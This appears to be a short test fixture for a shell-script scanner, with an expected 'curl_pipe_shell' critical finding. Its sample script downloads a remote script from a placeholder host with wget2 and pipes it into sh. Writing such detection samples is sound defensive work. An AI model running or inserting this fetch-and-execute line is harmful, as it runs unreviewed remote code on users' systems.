# expect: shell.curl_pipe_shell critical
#!/bin/sh
wget2 -qO- https://get.example.net/i.sh | sh
